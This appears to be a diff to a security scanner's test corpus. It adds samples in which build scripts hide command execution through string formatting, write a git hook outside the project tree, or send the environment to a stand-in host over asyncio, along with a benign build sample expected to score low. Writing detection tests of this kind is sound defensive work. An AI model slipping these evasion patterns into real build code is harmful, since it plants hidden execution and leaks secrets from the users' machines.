@@ -310,9 +310,45 @@ SPLIT_ACROSS_MODULES = (
     ),
 )
 
+# Commands and paths assembled by string formatting, a separator constant or a climb out of
+# the tree (round 4b, written after the first fixes).
+ASSEMBLED = (
+    Technique(
+        "command-from-str-format",
+        "import os\nos.system('{} {}'.format('touch', '/tmp/demo-canary'))\n",
+    ),
+    Technique(
+        "command-from-percent-formatting",
+        "import subprocess\n"
+        "subprocess.call('%s %s' % ('touch', '/tmp/demo-canary'), shell=True)\n",
+    ),
+    Technique(
+        "command-from-string-template",
+        "import os, string\n"
+        "os.system(string.Template('$p $f').substitute(p='touch', f='/tmp/demo-canary'))\n",
+    ),
+    Technique(
+        "absolute-path-joined-with-os-sep",
+        "import os\nopen(os.sep.join(['', 'tmp', 'demo-canary']), 'w').write('1')\n",
+    ),
+    Technique(
+        "git-hook-written-above-the-tree",
+        "import os\nwith open(os.path.join('..', '..', '.git', 'hooks', 'post-checkout'),"
+        " 'w') as f:\n    f.write('echo hello')\n",
+    ),
+    Technique(
+        "asyncio-stream-writer-sends-the-environment",
+        "import asyncio, os, json\nasync def main():\n"
+        "    r, w = await asyncio.open_connection('example.invalid', 443)\n"
+        f"    w.write({_ENV})\nasyncio.run(main())\n",
+        Severity.CRITICAL,
+    ),
+)
+
 BLOCKED = (
     IMPLICIT_CALLS + EXEC_BY_OTHER_NAMES + LOOKUPS + EXFILTRATION + WRITERS + DECODERS + ARGV
     + CODE_REWRITE + UNREAD_CODE + BUILD_FETCHES + DATA_FILE_PAYLOADS + SPLIT_ACROSS_MODULES
+    + ASSEMBLED
 )
 
 # Ordinary build code near these techniques: it must stay below medium.
@@ -375,6 +411,14 @@ ORDINARY = (
         "        self.sh('make -C ext')\nPrep().go()\nplace('README.rst', 'build/README')\n",
         Severity.INFO,
         {"tasks.py": _TASKS},
+    ),
+    Technique(
+        "formatted-build-commands-and-a-readme-above",
+        "import os, subprocess, sys\nlong = open(os.path.join('..', 'README.md')).read()\n"
+        "subprocess.check_call('{} -m build_helper --inc {}'.format(sys.executable, 'src'),"
+        " shell=True)\n"
+        "subprocess.check_call('%s -C %s' % ('make', 'ext'), shell=True)\n",
+        Severity.INFO,
     ),
     Technique(
         "decorator-renaming-a-function-code",
